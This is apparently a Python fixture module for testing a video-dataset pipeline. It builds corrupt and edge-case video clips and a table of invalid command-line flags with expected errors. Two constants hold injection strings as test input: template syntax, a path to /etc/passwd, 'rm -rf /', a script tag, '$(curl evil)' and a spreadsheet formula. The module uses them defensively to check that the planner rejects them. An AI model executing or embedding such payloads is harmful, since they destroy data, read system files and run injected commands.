"""Broken and awkward source clips and bad command-line flags, made on demand: the fault bench feeds them
to runs, and the tests reuse them."""

from __future__ import annotations

import shutil
from fractions import Fraction
from pathlib import Path

import av
import cv2
import numpy as np

# Files the run must refuse at ingest with an error naming them; the rest of write_bad_clips' files are
# awkward but usable (odd sizes decode to even ones; one frame is too short for the pre-filter).
REFUSED = (
    "truncated.mp4",
    "not_a_video.mp4",
    "zero_frames.mp4",
    "huge.mp4",
    "one_pixel.mkv",
    "audio_only.mp4",
    "loop.mp4",
)


def write_test_video(path: Path, frames: np.ndarray, fps: int = 12, codec: str = "libx264") -> Path:
    """H.264 by default; ffv1 (in .mkv) takes odd frame sizes, which yuv420p cannot."""
    with av.open(str(path), "w") as out:
        stream = out.add_stream(codec, rate=fps)
        stream.width, stream.height = frames.shape[2], frames.shape[1]
        stream.pix_fmt = "yuv444p" if codec == "ffv1" else "yuv420p"
        for f in frames:
            out.mux(stream.encode(av.VideoFrame.from_ndarray(f, format="rgb24")))
        out.mux(stream.encode())
    return path


def moving_frames(n: int = 24, h: int = 96, w: int = 128, seed: int = 0) -> np.ndarray:
    """A textured scene panning right: real motion, no cuts."""
    rng = np.random.default_rng(seed)
    base = (rng.random((h, w * 2, 3)) * 255).astype(np.uint8)
    base = cv2.GaussianBlur(base, (0, 0), 3)
    base = cv2.normalize(base, None, 0, 255, cv2.NORM_MINMAX)
    return np.stack([base[:, 2 * t : 2 * t + w] for t in range(n)])


def write_bad_clips(folder: Path, good_clip: Path) -> Path:
    """One good clip (named with a space) and every kind of broken one. `huge.mp4` is 1280x800: refused
    when ingest.max_source_pixels is below that."""
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copy(good_clip, folder / "good clip.mp4")
    data = good_clip.read_bytes()
    (folder / "truncated.mp4").write_bytes(data[: len(data) // 20])
    (folder / "not_a_video.mp4").write_text("this is a text file, not a video\n")
    with av.open(str(folder / "zero_frames.mp4"), "w") as out:  # a valid header and no frame at all
        stream = out.add_stream("mpeg4", rate=12)
        stream.width, stream.height = 64, 64
        out.start_encoding()
    write_test_video(folder / "one_frame.mp4", moving_frames(1))
    write_test_video(folder / "huge.mp4", moving_frames(3, h=800, w=1280))
    noise = np.random.default_rng(0).integers(0, 255, (20, 9, 17, 3), dtype=np.uint8)
    write_test_video(folder / "odd 17x9.mkv", noise, codec="ffv1")
    write_test_video(folder / "one_pixel.mkv", noise[:, :1, :1], codec="ffv1")
    with av.open(str(folder / "audio_only.mp4"), "w") as out:
        stream = out.add_stream("aac", rate=16000)
        frame = av.AudioFrame.from_ndarray(np.zeros((1, 1024), np.float32), format="fltp", layout="mono")
        frame.sample_rate = 16000
        out.mux(stream.encode(frame))
        out.mux(stream.encode())
    write_noise_vfr(folder / "noise_vfr_64x48.mp4")
    (folder / "loop.mp4").unlink(missing_ok=True)
    (folder / "loop.mp4").symlink_to("loop.mp4")  # a symlink loop: refused alone, the folder's other clips run
    return folder


def write_noise_vfr(path: Path, frames: int = 40, seed: int = 0) -> Path:
    """64x48 random noise at a variable frame rate (frame gaps of 10 to 200 ms): decodes, but shows nothing
    a dataset wants."""
    rng = np.random.default_rng(seed)
    with av.open(str(path), "w") as out:
        stream = out.add_stream("libx264", rate=1000)
        stream.width, stream.height, stream.pix_fmt = 64, 48, "yuv420p"
        stream.codec_context.time_base = stream.time_base = Fraction(1, 1000)
        pts = np.cumsum(rng.integers(10, 200, frames)) - 10
        for t in pts:
            frame = av.VideoFrame.from_ndarray(rng.integers(0, 255, (48, 64, 3), dtype=np.uint8), format="rgb24")
            frame.pts, frame.time_base = int(t), Fraction(1, 1000)
            out.mux(stream.encode(frame))
        out.mux(stream.encode())
    return path


# An LLM's answer that is no plain prose: template syntax, a path, shell, markup, a spreadsheet formula. The
# planner must re-ask and never let it reach a template, a file name or the dataset.
HOSTILE_INSTRUCTION = "Make it a pencil sketch. {{ 7*7 }} ../../../../etc/passwd; rm -rf / # <script>alert(1)</script>"
HOSTILE_TARGET = '$(curl evil) `id` {% import os %} =HYPERLINK("http://x")'


# Bad flags: each must be refused with one line naming the flag and what is wrong, a non-zero exit, and no
# run left behind. (flags, what the line says); {tmp} stands for a scratch folder, SRC:<kind> for a wrong
# --source-dir, BINARY for a binary --config and YAML:<text> for a config file holding the text, each made by
# bad_flag_args.
BAD_FLAGS: list[tuple[list[str], str]] = [
    (["--budget-gpu-days", "nan"], "--budget-gpu-days nan: Input should be a finite number"),
    (["--budget-gpu-days", "inf"], "--budget-gpu-days inf: Input should be a finite number"),
    (["--budget-gpu-days", "-1"], "--budget-gpu-days -1.0: Input should be greater than 0"),
    (["--budget-gpu-days", "0"], "--budget-gpu-days 0.0: Input should be greater than 0"),
    (["--max-samples", "-1"], "--max-samples -1: Input should be greater than or equal to 1"),
    (["--concurrency", "0"], "--concurrency 0: Input should be greater than or equal to 1"),
    (["--concurrency", "-3"], "--concurrency -3: Input should be greater than or equal to 1"),
    (["--db", "bogus://x"], "--db: 'bogus' is not a database SQLAlchemy knows"),
    (["--db", "notaurl"], "--db: not a database URL"),
    (["--db", "postgresql+pg8000://u@127.0.0.1/db"], "--db: the driver for postgresql+pg8000 (pg8000)"),
    (["--db", "mysql://u@127.0.0.1/db"], "--db: the driver for mysql (MySQLdb) is not installed"),
    (["--db", "sqlite:////nonexistent/dir/x.db"], "--db: the folder of the SQLite file, /nonexistent/dir,"),
    (["--config", "BINARY"], "--config {tmp}/config.yaml: not a YAML text file"),
    (["--prompts", "/nonexistent"], "prompt override folder (--prompts) /nonexistent is not a folder"),
    (["--resume", "run-bogus"], "--resume run-bogus: {tmp}/out holds no run database"),
    (["--source-dir", "SRC:missing"], "--source-dir {tmp}/src-missing: does not exist"),
    (["--source-dir", "SRC:empty"], "--source-dir {tmp}/src-empty: holds no video files"),
    (["--source-dir", "SRC:file"], "--source-dir {tmp}/src-file: is not a folder"),
    (["--source-dir", "SRC:loop"], "--source-dir {tmp}/src-loop: is a symlink loop"),
    (["--out", "{tmp}/a-file/out"], "--out {tmp}/a-file/out: cannot write in {tmp}/a-file"),
    (["--profile", "bogus"], "--profile: unknown profile 'bogus'"),
    (["--config", "/nonexistent.yaml"], "--config /nonexistent.yaml: No such file or directory"),
    (["--llm-base-url", "not-a-url"], "--llm-base-url (backends.planner.base_url) not-a-url: not an http(s) URL"),
    (["--llm-base-url", "http://127.0.0.1:1/v1"], "--llm-base-url (backends.planner.base_url) http://127.0.0.1:1/v1: "),
    (["--llm-model", "m"], "--llm-model (backends.planner.model)"),
    (["--seed", "99999999999999999999"], "--seed 99999999999999999999: Input should be less than or equal to"),
    (["--seed", "-1"], "--seed -1: Input should be greater than or equal to 0"),
    (["--gpus", "0"], "--gpus 0.0: Input should be greater than 0"),
    (["--config", "YAML:tools: {ingest: {fps: -5}}"], "config.yaml: tools.ingest.fps: Input should be greater than 0"),
    (["--config", "YAML:tools: {ingest: {fps: 1.0e+9}}"], "tools.ingest.fps: Input should be less than or equal to"),
    (["--config", "YAML:policy: {video_pass: {edit_strength: 11}}"], "policy.video_pass.edit_strength: Input should"),
]


def bad_source_dir(kind: str, tmp: Path) -> Path:
    path = tmp / f"src-{kind}"
    if kind == "empty":
        path.mkdir()
        (path / "notes.txt").write_text("no clips here")
    elif kind == "file":
        path.write_bytes(b"not a folder")
    elif kind == "loop":
        path.symlink_to(path.name)  # points at itself
    return path  # "missing": nothing there


def bad_flag_args(flags: list[str], tmp: Path) -> list[str]:
    """The flags as a command line, with what they name made in `tmp` (which gets a file `a-file`)."""
    (tmp / "a-file").write_text("a file where --out wants a folder")
    args = []
    for flag in flags:
        if flag == "BINARY":
            (tmp / "config.yaml").write_bytes(bytes(range(256)) * 4)
            flag = str(tmp / "config.yaml")
        elif flag.startswith("YAML:"):
            (tmp / "config.yaml").write_text(flag.removeprefix("YAML:"))
            flag = str(tmp / "config.yaml")
        elif flag.startswith("SRC:"):
            flag = str(bad_source_dir(flag.removeprefix("SRC:"), tmp))
        args.append(flag.replace("{tmp}", str(tmp)))
    return args
